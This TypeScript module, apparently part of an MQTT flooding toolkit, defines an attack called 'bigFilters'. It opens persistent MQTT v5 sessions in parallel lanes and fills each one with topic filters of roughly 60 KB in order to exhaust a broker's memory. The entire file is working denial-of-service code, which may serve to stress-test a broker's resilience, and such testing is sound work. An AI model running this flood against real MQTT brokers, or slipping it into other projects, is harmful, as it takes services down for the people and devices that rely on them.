import mqttPacket from 'mqtt-packet'
import { type Attack, ending, inLanes, openMqtt } from '../flood.ts'

const LANES = 4
const FILTERS = 4
const LEVELS = 90

export const bigFilters: Attack = {
  about: 'opens more and more sessions, and fills them with filters of 60 KB',
  start(target) {
    let count = 0
    const rest = `/${'x'.repeat(660)}`.repeat(LEVELS)
    const options = { qos: 1, nl: false, rap: false, rh: 2 } as const
    inLanes(LANES, async () => {
      count += 1
      const session = { clean: false, properties: { sessionExpiryInterval: 3600 } }
      const socket = await openMqtt(target, { clientId: `big-${count}`, ...session })
      for (let messageId = 1; messageId <= FILTERS; messageId++) {
        const subscriptions = [{ topic: `${count}/${messageId}${rest}`, ...options }]
        const packet = { cmd: 'subscribe', messageId, subscriptions } as const
        socket.write(mqttPacket.generate(packet, { protocolVersion: 5 }))
      }
      socket.end(mqttPacket.generate({ cmd: 'disconnect', reasonCode: 0 }, { protocolVersion: 5 }))
      await ending(socket)
    })
  },
}
